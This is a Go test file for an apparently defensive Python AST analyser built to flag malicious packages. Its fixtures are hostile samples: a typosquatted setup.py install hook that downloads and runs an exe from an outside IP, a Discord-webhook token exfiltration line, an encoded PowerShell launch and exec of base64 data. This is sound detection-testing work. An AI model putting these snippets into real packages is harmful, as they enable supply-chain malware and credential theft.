package pyast

import (
	"slices"
	"strings"
	"testing"
)

const malwareSetup = `from setuptools import setup
from setuptools.command.install import install
import os, urllib.request

class PostInstall(install):
    def run(self):
        url = "http://203.0.113.7/p.exe"
        f = os.path.join(os.getenv("TEMP"), "p.exe")
        urllib.request.urlretrieve(url, f)
        os.system(f)
        install.run(self)

setup(
    name="reqeusts",
    version="1.0",
    cmdclass={'install': PostInstall},
)
`

// Malicious-looking snippets and benign look-alikes.
func TestPatterns(t *testing.T) {
	t.Run("exec base64", func(t *testing.T) {
		f := analyze(t, "import base64\nexec(base64.b64decode(\"cHJpbnQoMSk=\"))\n", Options{})
		if got := callNames(f); !slices.Equal(got, []string{"exec", "base64.b64decode"}) {
			t.Errorf("calls = %q", got)
		}
		if !f.Calls[0].TopLevel || f.Strings[0].Value != "cHJpbnQoMSk=" {
			t.Errorf("call %+v strings %+v", f.Calls[0], f.Strings)
		}
	})

	t.Run("setup.py install hook", func(t *testing.T) {
		f := analyze(t, malwareSetup, Options{})
		if len(f.SetupCalls) != 1 {
			t.Fatalf("setup calls = %+v", f.SetupCalls)
		}
		sc := f.SetupCalls[0]
		if sc.Name != "setuptools.setup" || !slices.Equal(sc.Keywords, []string{"name", "version", "cmdclass"}) ||
			len(sc.CmdClass) != 1 || sc.CmdClass[0] != (CmdClass{Command: "install", Class: "PostInstall"}) {
			t.Errorf("setup = %+v", sc)
		}
		if len(f.Classes) != 1 || !slices.Equal(f.Classes[0].Bases, []string{"setuptools.command.install.install"}) ||
			!slices.Equal(f.Classes[0].Methods, []string{"run"}) {
			t.Errorf("classes = %+v", f.Classes)
		}
		for _, name := range []string{"urllib.request.urlretrieve", "os.system"} {
			c := findCall(t, f, name)
			if c.TopLevel || c.Scope != "PostInstall.run" {
				t.Errorf("%s: %+v", name, c)
			}
		}
		if c := findCall(t, f, "setuptools.setup"); !c.TopLevel {
			t.Errorf("setup() not top level: %+v", c)
		}
		if c := findCall(t, f, "setuptools.command.install.install.run"); c.Attr != "run" {
			t.Errorf("install.run: %+v", c)
		}
	})

	t.Run("discord webhook", func(t *testing.T) {
		f := analyze(t, "import requests\nWEBHOOK = \"https://discord.com/api/webhooks/1234567890/abcDEF_-x\"\nrequests.post(WEBHOOK, json={\"content\": tokens})\n", Options{})
		found := false
		for _, s := range f.Strings {
			found = found || strings.HasPrefix(s.Value, "https://discord.com/api/webhooks/")
		}
		if !found {
			t.Errorf("webhook URL not in strings %+v", f.Strings)
		}
		if c := findCall(t, f, "requests.post"); !c.TopLevel || c.Line != 3 {
			t.Errorf("requests.post: %+v", c)
		}
	})

	t.Run("powershell encoded command", func(t *testing.T) {
		f := analyze(t, "import subprocess\nsubprocess.Popen([\"powershell\", \"-EncodedCommand\", \"SQBFAFgAIAAoAE4AZQB3AC0A\"], shell=True)\n", Options{})
		c := findCall(t, f, "subprocess.Popen")
		if !c.TopLevel || c.Args != 2 || !strings.HasPrefix(c.Snippet, `subprocess.Popen(["powershell", "-EncodedCommand"`) {
			t.Errorf("Popen: %+v", c)
		}
		var vals []string
		for _, s := range f.Strings {
			vals = append(vals, s.Value)
		}
		if !slices.Contains(vals, "-EncodedCommand") || !slices.Contains(vals, "powershell") {
			t.Errorf("strings = %q", vals)
		}
	})

	t.Run("non-literal getattr name", func(t *testing.T) {
		// No constant folding: "ex"+"ec" is not a literal, so only getattr
		// is known, and the outer call is "getattr()".
		f := analyze(t, `getattr(__builtins__, "ex"+"ec")(payload)`, Options{})
		if got := callNames(f); !slices.Equal(got, []string{"getattr()", "getattr"}) {
			t.Errorf("calls = %q", got)
		}
		if slices.Contains(callNames(f), "exec") {
			t.Error("exec must not be inferred")
		}
	})

	t.Run("zero-width in identifier", func(t *testing.T) {
		f := analyze(t, "imp\u200bort = 1\nprint(imp\u200bort)\n", Options{})
		if f.Obfuscation.ZeroWidthChars != 2 || !f.HasError || f.ErrorNodes == 0 {
			t.Errorf("zw=%d hasError=%v errors=%d", f.Obfuscation.ZeroWidthChars, f.HasError, f.ErrorNodes)
		}
	})

	t.Run("python 2", func(t *testing.T) {
		src := `import os
print "starting"
try:
    os.system("id")
except OSError, e:
    pass
exec "x = 1"
urllib2.urlopen(u)
`
		f := analyze(t, src, Options{})
		// The grammar keeps Python 2's print/exec statements and
		// "except X, e" as nodes of their own, so old code parses cleanly.
		if f.Py2Statements != 2 {
			t.Errorf("Py2Statements = %d", f.Py2Statements)
		}
		want := []string{"print", "os.system", "exec", "urllib2.urlopen"}
		if got := callNames(f); !slices.Equal(got, want) {
			t.Errorf("calls = %q, want %q", got, want)
		}
		if !f.Calls[0].Stmt || f.Calls[1].Stmt {
			t.Errorf("Stmt flags: %+v", f.Calls[:2])
		}
	})

	t.Run("benign test file", func(t *testing.T) {
		src := `import subprocess
import pytest

def test_cli():
    out = subprocess.run(["mytool", "--help"], capture_output=True)
    assert out.returncode == 0

class TestX:
    def test_y(self):
        subprocess.check_call(["true"])
`
		f := analyze(t, src, Options{})
		for _, name := range []string{"subprocess.run", "subprocess.check_call"} {
			if c := findCall(t, f, name); c.TopLevel {
				t.Errorf("%s should not be top level: %+v", name, c)
			}
		}
		if len(f.SetupCalls) != 0 || f.ErrorNodes != 0 {
			t.Errorf("setup=%v errors=%d", f.SetupCalls, f.ErrorNodes)
		}
	})

	t.Run("pyarmor", func(t *testing.T) {
		f := analyze(t, "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00')\n", Options{})
		if f.Obfuscation.PyArmorMarkers != 4 {
			t.Errorf("PyArmorMarkers = %d", f.Obfuscation.PyArmorMarkers)
		}
		if !slices.Contains(callNames(f), "pytransform.pyarmor_runtime") {
			t.Errorf("calls = %q", callNames(f))
		}
	})
}

// Deeply nested or very long constructs must not exhaust the Go stack or
// take quadratic time in the analysis.
func TestPathologicalNesting(t *testing.T) {
	const n = 20000
	cases := map[string]string{
		"parens":    strings.Repeat("(", n) + strings.Repeat(")", n),
		"unclosed":  strings.Repeat("[", n),
		"attribute": "a" + strings.Repeat(".b", n) + "()",
		"calls":     strings.Repeat("f(", n) + strings.Repeat(")", n),
		"chained":   "a" + strings.Repeat("()", n),
		"chr chain": "x = " + strings.Repeat("chr(65)+", n) + "chr(65)",
		"lambdas":   strings.Repeat("lambda:", n) + "1",
		"nested f":  strings.Repeat("f'{", 2000) + strings.Repeat("}'", 2000),
		"garbage":   strings.Repeat("\xff\x00:)(=\"'", 2000),
	}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			f := analyze(t, src, Options{})
			if f.Nodes == 0 {
				t.Error("no nodes")
			}
			for _, c := range f.Calls {
				if len(c.Name) > MaxNameLen+2 {
					t.Fatalf("name length %d", len(c.Name))
				}
			}
		})
	}
	f := analyze(t, cases["chr chain"], Options{})
	if f.Obfuscation.MaxChrChain != n+1 || f.Obfuscation.ChrCalls != n+1 {
		t.Errorf("chr chain = %d, calls %d", f.Obfuscation.MaxChrChain, f.Obfuscation.ChrCalls)
	}
	f = analyze(t, cases["attribute"], Options{})
	if len(f.Calls) != 1 || !strings.Contains(f.Calls[0].Name, "<expr>") {
		t.Errorf("deep attribute chain should hit MaxResolveDepth: %q", callNames(f))
	}
}
